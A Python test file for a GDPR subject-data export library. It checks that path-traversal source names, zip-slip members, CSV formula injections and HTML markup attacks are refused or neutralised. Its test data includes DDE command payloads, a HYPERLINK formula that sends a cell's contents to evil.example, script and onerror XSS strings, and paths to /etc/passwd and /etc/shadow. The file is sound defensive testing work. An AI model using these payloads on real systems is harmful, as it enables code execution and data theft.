"""Hostile names and values at the export boundary (issue 11, point 3).

A source's name becomes a path in the ZIP; a value someone else wrote into a
record may be a spreadsheet formula or markup; a package received from
elsewhere may hold members that unpack outside their folder. Each is refused
or neutralised where the package meets it.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import stat
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from html.parser import HTMLParser

import attrs
import pytest

import gdprkit as gk
from gdprkit import rights
from gdprkit._demo import models
from gdprkit._rights.markup import BIDI_CONTROLS

from .conftest import MINIMAL

AT = datetime(2026, 11, 25, 9, 30, tzinfo=UTC)
ANNA = rights.SubjectRef(kind="customer", id="C-1042")


class Named:
    """A source written by someone else, with whatever name they gave it."""

    schemas = (gk.schema_of(models.SupportTicket),)

    def __init__(self, name: object, records=()) -> None:
        self.name = name
        self.rows = list(records)
        self.read = False

    def records(self, subject):
        self.read = True
        yield from self.rows


def _ticket(message: str, ticket_id: str = "T-1") -> models.SupportTicket:
    return models.SupportTicket(ticket_id, "C-1042", AT, message)


def _export(tmp_path, sources, policy=models.policy, name="answer.zip"):
    return rights.export_subject(ANNA, sources, policy, at=AT, out=tmp_path / name)


def _member(path, name) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read(name).decode("utf-8")


# -- source names ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("../../evil", "is an absolute path|contains a path separator"),
        ("/etc/cron.d/x", "is an absolute path"),
        ("\\\\server\\share", "is an absolute path"),
        ("C:evil", "is an absolute path"),
        ("data/evil", "contains a path separator"),
        ("data\\evil", "contains a path separator"),
        ("..", "contains '..'"),
        ("a..b", "contains '..'"),
        ("", "is empty"),
        ("tickets\x00.csv", "contains a NUL character"),
        ("tickets\nx", "contains a control or format character"),
        ("invoice\u202efdp", "contains a control or format character"),
        ("tick\u200bets", "contains a control or format character"),
        ("NUL", "is a device name on Windows"),
        ("com1", "is a device name on Windows"),
        ("-rf", "starts with '-'"),
        ("tickets.csv", "other characters than ASCII letters"),
        ("biljetter_ö", "other characters than ASCII letters"),
        ("x" * 65, "longer than 64"),
        (42, "is a int, not a str"),
    ],
    ids=[
        "parent folders",
        "absolute path",
        "UNC path",
        "drive letter",
        "slash",
        "backslash",
        "dot dot",
        "dot dot inside",
        "empty",
        "NUL",
        "newline",
        "bidi override",
        "zero-width space",
        "Windows device",
        "Windows device, lower case",
        "leading dash",
        "a dot",
        "non-ASCII letter",
        "too long",
        "not a str",
    ],
)
def test_a_hostile_source_name_is_refused_before_anything_is_read(tmp_path, name, rule):
    source = Named(name, [_ticket("hej")])
    with pytest.raises(gk.SourceError, match=rule) as caught:
        _export(tmp_path, [source])
    message = str(caught.value)
    assert "of source 1" in message
    assert message.isprintable() and message.isascii()  # the name is shown escaped, if at all
    assert not source.read
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("first", "second"),
    [("tickets", "tickets"), ("tickets", "Tickets"), ("ab_C", "AB_c")],
    ids=["same name", "case differs", "mixed case"],
)
def test_names_that_differ_only_in_case_are_refused(tmp_path, first, second):
    with pytest.raises(gk.SourceError, match=r"sources 1 and 2 have the same name .*case ignored"):
        _export(tmp_path, [Named(first), Named(second)])
    assert list(tmp_path.iterdir()) == []


def test_safe_names_of_custom_sources_are_used_as_they_are(tmp_path):
    result = _export(tmp_path, [Named("support-tickets_2026", [_ticket("hej")])])
    paths = [f["path"] for f in result.manifest["files"]]
    assert paths[:2] == ["data/support-tickets_2026.jsonl", "data/support-tickets_2026.csv"]
    rights.verify_package(result.path)


def test_built_in_sources_check_their_names_by_the_same_rules():
    ok = rights.IterableSource("support-tickets", models.SupportTicket, [],
                               subject_field="customer_id")  # fmt: skip
    assert ok.name == "support-tickets"
    with pytest.raises(gk.SourceError, match=r"the source name '\.\./x' contains a path sep"):
        rights.IterableSource("../x", models.SupportTicket, [], subject_field="customer_id")


# -- members of a package read back (zip-slip) -------------------------------------------------


def _package(tmp_path, members, *, links=()) -> str:
    """A package whose manifest lists ``members`` with their right hashes."""
    files = [{"path": n, "media_type": "text/csv", "sha256": hashlib.sha256(d).hexdigest(),
              "bytes": len(d)} for n, d in members.items()]  # fmt: skip
    manifest = {"schema": rights.MANIFEST_SCHEMA_VERSION, "files": files}
    path = tmp_path / "received.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            if name in links:
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, data)
        zf.writestr("manifest.json", json.dumps(manifest))
    return str(path)


@pytest.mark.parametrize(
    ("members", "links", "problem"),
    [
        ({"../../.bashrc": b"x"}, (), r"'\.\.' part"),
        ({"data/../../evil.csv": b"x"}, (), r"'\.\.' part"),
        ({"/etc/passwd": b"x"}, (), "absolute path"),
        ({"data\\..\\..\\evil.csv": b"x"}, (), "backslash"),
        ({"C:/evil.csv": b"x"}, (), "drive"),
        ({"data//evil.csv": b"x"}, (), "empty, '.' or '..' part"),
        ({"data/evil\u202evsc.exe": b"x"}, (), "control character"),
        ({"data/link.csv": b"/etc/shadow"}, ("data/link.csv",), "symbolic link"),
        ({"data/a.csv": b"x", "DATA/A.csv": b"y"}, (), "twice"),
    ],
    ids=[
        "parent folders",
        "parent folders inside data",
        "absolute path",
        "backslashes",
        "drive letter",
        "empty path part",
        "bidi override",
        "symbolic link",
        "same name but for case",
    ],
)
def test_verify_refuses_members_that_unpack_outside_their_folder(tmp_path, members, links, problem):
    with pytest.raises(gk.PackageIntegrityError, match=problem) as caught:
        rights.verify_package(_package(tmp_path, members, links=links))
    assert str(caught.value).isprintable()


def test_a_package_of_manifest_schema_1_still_verifies(tmp_path):
    path = _package(tmp_path, {"data/tickets.csv": b"ticket_id\r\n"})
    with zipfile.ZipFile(path) as zf:
        manifest = json.loads(zf.read("manifest.json"))
    manifest["schema"] = "gdprkit.export/1"
    old = tmp_path / "old.zip"
    with zipfile.ZipFile(old, "w") as zf:
        zf.writestr("data/tickets.csv", b"ticket_id\r\n")
        zf.writestr("manifest.json", json.dumps(manifest))
    assert rights.verify_package(old)["schema"] == "gdprkit.export/1"
    manifest["schema"] = "gdprkit.export/0"
    with zipfile.ZipFile(old, "w") as zf:
        zf.writestr("data/tickets.csv", b"ticket_id\r\n")
        zf.writestr("manifest.json", json.dumps(manifest))
    with pytest.raises(gk.PackageIntegrityError, match="unknown schema"):
        rights.verify_package(old)


# -- CSV formula cells ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("message", "neutralised"),
    [
        ('=HYPERLINK("https://evil.example/?d="&A1,"Klicka")', True),
        ("+46701234567", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ("@SUM(1+9)*cmd|' /C calc'!A0", True),
        ("\t=1+1", True),
        ("\r=1+1", True),
        (' =HYPERLINK("https://evil.example")', True),
        ("   @SUM(1+9)", True),
        ("\n=1+1", True),
        ("\u00a0-2+3", True),
        ("\x00=1+1", True),
        ("\x00", True),
        ("   ", False),
        (" 5 kWh", False),
        ("Hej! 1+1=2, a-b", False),
        ("'already quoted", False),
        ("", False),
    ],
    ids=[
        "HYPERLINK formula",
        "plus sign",
        "minus sign",
        "at sign",
        "tab",
        "carriage return",
        "a space first",
        "spaces first",
        "a line feed first",
        "a no-break space first",
        "NUL first (ASVS 5.0 1.2.10)",
        "NUL alone",
        "only spaces",
        "a space before a digit",
        "formula characters later in the text",
        "a leading quote",
        "empty",
    ],
)
def test_csv_neutralises_formula_cells_and_jsonl_keeps_the_value(tmp_path, message, neutralised):
    """OWASP CSV injection: a single quote before a cell a spreadsheet would run as a formula."""
    result = _export(tmp_path, [Named("tickets", [_ticket(message)])])
    (row,) = csv.DictReader(io.StringIO(_member(result.path, "data/tickets.csv"), newline=""))
    assert row["message"] == ("'" + message if neutralised else message)
    (line,) = _member(result.path, "data/tickets.jsonl").splitlines()
    assert json.loads(line)["message"] == message  # exact, for portability
    assert result.manifest["csv_formula_neutralised"] is True
    rights.verify_package(result.path)


@pytest.mark.parametrize(
    ("message", "written"),
    [
        ("Hej;=1+1", "Hej;'=1+1"),
        ("x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"),
        ("x; @SUM(1+9)", "x; '@SUM(1+9)"),
        ("tel;+46701234567;-3", "tel;'+46701234567;'-3"),
        ("=a;=b", "'=a;'=b"),
        ("a;b; c", "a;b; c"),
    ],
    ids=["a formula after a semicolon", "DDE after a semicolon", "a blank in between",
         "two in one cell", "first and after", "semicolons alone"],
)  # fmt: skip
def test_csv_read_with_a_semicolon_list_separator_runs_nothing(tmp_path, message, written):
    """Excel in Swedish (and most of Europe) opens a .csv with ';' as its list separator, so
    'Hej;=1+1' there is two cells, the second a formula (OWASP: "take care of the field
    separator"). A formula character after a ';' gets its single quote too."""
    result = _export(tmp_path, [Named("tickets", [_ticket(message)])])
    text = _member(result.path, "data/tickets.csv")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["message"] == written
    for line in text.splitlines():
        for cell in line.split(";"):  # as a spreadsheet splits it
            assert cell.lstrip(' "')[:1] not in ("=", "+", "-", "@"), cell
    (line,) = _member(result.path, "data/tickets.jsonl").splitlines()
    assert json.loads(line)["message"] == message


@gk.personal_data(subject="customer", policy=models.policy)
@attrs.frozen
class Adjustment:
    """A correction on a bill: numbers may be negative, and are not formulas."""

    adjustment_id: str
    customer_id: str = gk.pd_field(
        category="identity.customer_id", purposes=("contract",), identifies=True
    )
    amount_sek: Decimal = gk.pd_field(category="financial.invoice", purposes=("contract",))
    kwh: int = gk.pd_field(category="energy", purposes=("contract",))
    factor: float = gk.pd_field(category="energy", purposes=("contract",))
    booked_on: date = gk.pd_field(category="energy", purposes=("contract",))


def test_negative_numbers_are_written_as_numbers(tmp_path):
    adjustment = Adjustment("-A1", "C-1042", Decimal("-120.50"), -3, -0.5, date(2026, 1, 2))
    source = rights.IterableSource(
        "adjustments", Adjustment, [adjustment], subject_field="customer_id"
    )
    result = _export(tmp_path, [source])
    text = _member(result.path, "data/adjustments.csv")
    header, row = csv.reader(io.StringIO(text, newline=""))
    assert header == ["adjustment_id", "customer_id", "amount_sek", "kwh", "factor", "booked_on"]
    assert row == ["'-A1", "C-1042", "-120.50", "-3", "-0.5", "2026-01-02"]  # the id is a text


# -- the page ---------------------------------------------------------------------------------


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend(attrs)

    def handle_data(self, data):
        self.text.append(data)


HOSTILE = '<script>alert("x")</script>" onmouseover="alert(1)\' <img src=x onerror=alert(2)>'
ARABIC = "شركة الطاقة"


def test_the_page_escapes_markup_quotes_and_bidi_controls(tmp_path):
    document = copy.deepcopy(MINIMAL)
    document["controller"]["name"] = HOSTILE
    document["controller"]["address"] = f"{ARABIC} \u202eevil\u202c \u2066x\u2069"
    document["purposes"]["service"]["name"] = {"sv": HOSTILE, "en": HOSTILE}
    document["rights"]["automated_decisions"]["sv"] = f"\u202d{HOSTILE}"
    policy = gk.Policy.from_dict(document)

    @gk.personal_data(subject="customer", policy=policy)
    @attrs.frozen
    class Account:
        email: str = gk.pd_field(category="contact.email", purposes=("service",), identifies=True)

    source = rights.IterableSource("accounts", Account, [Account("C-1042")], subject_field="email")
    page_text = _member(_export(tmp_path, [source], policy).path, "index.html")
    page = _Page()
    page.feed(page_text)
    assert "script" not in page.tags and "img" not in page.tags
    # the page's own attributes only: none a value could have opened (onmouseover, src)
    assert {name for name, _ in page.attrs} <= {
        "lang", "charset", "name", "content", "class", "href", "id", "style", "role", "scope",
        "aria-labelledby", "aria-describedby", "data-label", "datetime", "http-equiv",
    }  # fmt: skip
    assert not BIDI_CONTROLS & set(page_text)
    text = "".join(page.text)
    assert HOSTILE in text  # shown to the reader as the text it is
    assert f"{ARABIC} [U+202E]evil[U+202C] [U+2066]x[U+2069]" in text


def test_the_page_runs_nothing_and_links_only_to_web_and_mail_addresses(tmp_path):
    """Defence in depth under the escaping: a Content-Security-Policy that allows no script,
    no plug-in and no request, and no link whose address could run (javascript:, data:)."""
    from gdprkit._rights.page_html import link

    result = _export(tmp_path, [Named("tickets", [_ticket("hej")])])
    page = _Page()
    page.feed(_member(result.path, "index.html"))
    (policy,) = [v for k, v in page.attrs if k == "content" and v and "default-src" in v]
    assert "default-src 'none'" in policy and "script-src" not in policy
    schemes = {v.split(":", 1)[0] for k, v in page.attrs if k == "href" and v and ":" in v}
    assert schemes <= {"mailto", "https", "http"}
    for href in ("javascript:alert(1)", "JavaScript:alert(1)", " javascript:x", "data:text/html,x",
                 "vbscript:x", "file:///etc/passwd"):  # fmt: skip
        assert "<a" not in link(href), href
    assert link("https://www.imy.se/").startswith('<a href="https://www.imy.se/"')
    assert link("data/tickets.csv").startswith('<a href="data/tickets.csv"')
    assert link("#held", "x").startswith('<a href="#held"')
    assert link("mailto:dpo@example.se").startswith("<a ")


def test_the_blanks_an_importer_may_trim_are_every_space_and_nul():
    from gdprkit._rights import cells

    spaces = {chr(c) for c in range(0x110000) if chr(c).isspace()}
    assert set(cells._BLANKS) == spaces | {"\x00"}
